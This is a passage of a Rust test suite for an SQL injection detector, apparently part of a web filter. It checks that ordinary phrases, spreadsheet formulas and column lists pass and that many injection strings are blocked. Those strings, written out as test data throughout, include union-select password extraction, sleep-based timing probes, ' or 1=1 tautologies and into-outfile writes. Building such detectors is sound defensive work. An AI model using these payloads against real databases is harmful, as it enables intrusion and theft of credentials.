    check("1 union table a order by 1", "union-select");
    check("1 union table a into outfile '/tmp/x'", "into-file");
    check("1 union select a. b,(select c from d)", "union-select");
    check("union select null a from b", "union-select");
    check("1 union select a. b from c-- .", "union-select");
}

/// `(select)` selects nothing; `union select` without more is a probe all the same.
#[test]
fn unions_that_select_nothing() {
    for text in ["l'union (select) d'un ensemble", "a union (select) of it"] {
        passes(text);
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
    for text in [
        "1 union select",
        "union select",
        " UNION ALL SELECT",
        "' union select 1-- ",
        "union select 1,2,3",
        "1 union (select 1,2)",
        "1 union (((select 1,2)))",
        "l'union (select password from users) -- ",
    ] {
        check(text, "union-select");
    }
}

/// A name that is selected from nothing, in parentheses behind a question, is an aside.
#[test]
fn asides_that_select() {
    for text in ["Who's in? (select one)", "Which size? (select one) And colour?"] {
        passes(text);
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
    check("1 (select password from users)", "juxtaposed");
    check("x? (select password from users where name='a')", "juxtaposed");
    check("1 and (select password)like'a%'", "subselect");
}

/// Words in quotes that a slash joins are words in quotes.
#[test]
fn quoted_words_with_a_slash() {
    for text in [
        "Filter dialog: \"and\"/\"or\" swapped",
        "\"and\"/\"or\" css",
        "les boutons 'et'/'ou' de l'aide",
        "Rename \"and\"/\"or\" to \"all\"/\"any\"",
    ] {
        for name in ["q", "summary"] {
            passes_at(Class::Sqli, Place::Query, name, text);
        }
    }
    for text in [
        "x\"/\"or\"1\"=\"1",
        "'/'or'1'='1",
        "a '/'or'1'='1",
        "a 'b'/'or'1'='1",
        "x '1'/'1' or '1'='1",
        "x 'a'/'||(select password from users)||'",
        "x 'a'/' or sleep(5)-- ",
        "x 'a'/' union select 1,2-- ",
        "a \"1\"/\"1\" and sleep(5) and \"1\"=\"1",
        "x '/' or 1=1-- ",
    ] {
        check(text, "");
    }
}

/// The strings of a formula: with cells in a field for cells, with fields of a record in one for formulas.
#[test]
fn strings_of_formulas() {
    for text in [
        "=QUERY(A:D,\"select A, sum(D) where B = 'open' group by A order by sum(D) desc\",1)",
        "=TEXT(A1,\"yyyy-mm-dd\")&\" -- \"&B1",
        "=IF(OR(A1=\"x\",B1=\"y\"),\"and\",\"or\")",
    ] {
        passes_at(Class::Sqli, Place::Json, "values.values", text);
    }
    // A call alone, too, is one of the sheet's.
    passes_at(Class::Sqli, Place::Json, "values.values", "=IMPORTRANGE(\"abc\",\"Sheet1!A1:B\")");
    for text in [
        "CONCATENATE({First},\" \",{Last name})&\" <\"&{Mail}&\">\"",
        "IF({Paid}=\"yes\",\"ok\",\"-\")&\" or later\"",
        "=\"<\"&{Mail}&\">\"",
    ] {
        passes_at(Class::Sqli, Place::Json, "formula_raw", text);
    }
    for text in [
        "=IF(A1=\" or 1=1 -- \",1,2)",
        "=A1&\"' or 1=1-- \"",
        "=A1&\"' union select password from users-- \"",
        "=QUERY(A1:D9,\"x\",1)' union select 1,2-- ",
        "=QUERY(A1:D9,\"select password from users\",1)\" union select 1,2-- ",
        "=A1&\"'||(select password from users)||'\"",
        "=A1&\"'-sleep(5)-'\"",
        "=A1;select sleep(5)",
        "1 union select password from users",
        "CONCAT({A},\"x\")' or 1=1-- ",
        "CONCAT({A},\"' or 1=1-- \")",
    ] {
        for name in ["values", "cells", "expression", "formula_raw"] {
            // A field for formulas takes their strings, whatever they say.
            if name == "formula_raw" && text.starts_with("=") {
                continue;
            }
            let (have, is_blocked) = testing::look(Class::Sqli, Place::Json, name, text.as_bytes());
            assert!(is_blocked, "{name}={text}: {have}");
        }
    }
    passes_at(Class::Sqli, Place::Json, "filterByFormula", "AND({Status}=\"Done\",{Owner}=\"and\")");
}

/// Names of columns belong into such a field, not what asks the database or chooses among them.
#[test]
fn questions_in_place_of_a_column() {
    for text in [
        "(select 1)",
        "(case id when 3 then 1 else 2 end)",
        "name,version()",
        "name,@@version",
        "(case when 1 then price else name end)",
    ] {
        for name in ["sort", "fields", "$select", "order_by"] {
            blocks_in(name, text, true);
        }
    }
    for text in [
        "name,version",
        "-price,name asc",
        "items(id,snippet(title))",
        "id,comments.limit(5){message}",
        "sum(price)",
        "count()",
        "if(exists(popularity),1,0) desc",
        "in case of rain, when it ends",
        "random()",
        "name as title, price",
        "_geoDistance(pt,10,20)",
        "user,database",
        "user(id,name),version",
    ] {
        for name in ["sort", "fields", "$select"] {
            blocks_in(name, text, false);
        }
    }
    blocks_in("q", "name,version()", false);
}
